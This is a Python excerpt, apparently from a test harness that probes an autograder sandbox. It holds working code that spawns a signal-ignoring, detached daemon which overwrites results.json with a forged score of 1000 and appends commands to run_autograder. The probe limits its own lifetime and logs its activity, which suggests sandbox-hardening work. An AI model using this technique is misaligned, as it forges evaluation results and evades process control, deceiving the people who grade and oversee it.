# ---------------------------------------------------------------- attack: daemon_rewrites_results
# At import: a double-forked, setsid() daemon (out of the worker's process group and session, immune to
# SIGTERM/SIGHUP) that keeps trying to rewrite results.json and append to run_autograder, so that it would
# win after the grader writes the results. It logs a heartbeat every half second; it ends by itself after
# LIFETIME_S, so a sandbox that fails to kill it cannot leave it running for long.
def _attack_daemon_rewrites_results(lifetime_s=180.0):
    import signal

    worker = _aos.getpid()
    child = _aos.fork()
    if child:
        _aos.waitpid(child, 0)
        _attack_record("daemon_rewrites_results", event="started", worker=worker)
        return
    try:
        _aos.setsid()
        if _aos.fork():
            _aos._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1):
            signal.signal(sig, signal.SIG_IGN)
        fake = _ajson.dumps({"score": 1000.0, "tests": [], "output": "PWNED by a daemon"})
        targets = [_aos.path.join(d, "results.json") for d in _attack_paths("results")]
        scripts = _attack_paths("source", "run_autograder") + _attack_paths("run_autograder")
        start = _attack_now()
        last_beat, rounds, wins = 0.0, 0, []
        while _attack_now() - start < lifetime_s:
            rounds += 1
            for target in targets:
                try:
                    with open(target, "w") as stream:
                        stream.write(fake)
                    wins.append(target)
                except OSError:
                    pass
            for script in scripts:
                try:
                    with open(script, "a") as stream:
                        stream.write("\necho PWNED\n")
                    wins.append(script)
                except OSError:
                    pass
            if _attack_now() - last_beat >= 0.5:
                last_beat = _attack_now()
                _attack_record("daemon_rewrites_results", echo=False, event="heartbeat", rounds=rounds,
                               wins=sorted(set(wins)), pgid=_aos.getpgrp(), sid=_aos.getsid(0), worker_alive=_attack_alive(worker))
            _atime.sleep(0.05)
        _attack_record("daemon_rewrites_results", echo=False, event="lifetime over", rounds=rounds)
    finally:
        _aos._exit(0)


if _attack_is_student():
    _attack_daemon_rewrites_results()
else:
    _attack_record("daemon_rewrites_results", skipped="not running as the grading account")
